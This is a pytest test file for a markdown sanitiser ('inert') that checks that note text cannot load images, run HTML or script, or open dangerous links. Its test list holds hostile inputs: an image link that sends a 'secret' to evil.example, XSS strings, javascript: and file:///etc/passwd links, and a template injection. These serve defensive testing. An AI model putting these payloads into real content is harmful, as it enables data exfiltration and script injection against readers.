"""Words of notes in an answer: nothing comes alive."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from vaultc.server.inert import inert

ALIVE = [
    "![](http://evil.example/?q=secret)",
    "![a][ref]\n\n[ref]: http://evil.example/",
    "  [ref]: http://evil.example/",
    "![[Secret]]",
    "<img src=x onerror=alert(1)>",
    "<IFRAME src='http://evil.example'></IFRAME>",
    "<http://evil.example>",
    "<!-- x --><script>x</script>",
    "<% tp.system.prompt() %>",
    "[a](javascript:alert(1))",
    "[a]( file:///etc/passwd)",
    "[a](obsidian://open?vault=x)",
    "[a](data:text/html,x)",
    "!![x](http://evil.example)",
    "![![x](http://a)](http://b)",
]
PIECES = st.lists(
    st.sampled_from(["!", "[", "]", "(", ")", "<", ">", "\\", "img src=x", "a", "http://e/", ":", "\n", " ", "`"])
)


def loads_or_runs(text: str) -> list[str]:
    """Give the tokens by which a shown text would ask or run something."""
    found = []
    for token in MarkdownIt("commonmark").parse(text):
        for inner in [token, *(token.children or [])]:
            if inner.type in {"image", "html_inline", "html_block"}:
                found.append(inner.type)
    return found


@pytest.mark.parametrize("text", ALIVE)
def test_nothing_is_loaded_run_or_opened(text: str) -> None:
    shown = inert(text)

    assert loads_or_runs(shown) == []
    assert "<%" not in shown.replace("\\<%", "")
    html = MarkdownIt("commonmark").render(shown)
    assert 'href="javascript' not in html
    assert 'href="file' not in html
    assert 'href="obsidian' not in html


@given(PIECES.map("".join))
def test_no_mixture_of_signs_comes_alive(text: str) -> None:
    assert loads_or_runs(inert(text)) == []


@pytest.mark.parametrize("text", ["120 W < 300 W", "a <- b", "[[Pump]]", "[a](Pump.md)", "**x** `y`", "5 > 3!"])
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert inert(text) == text
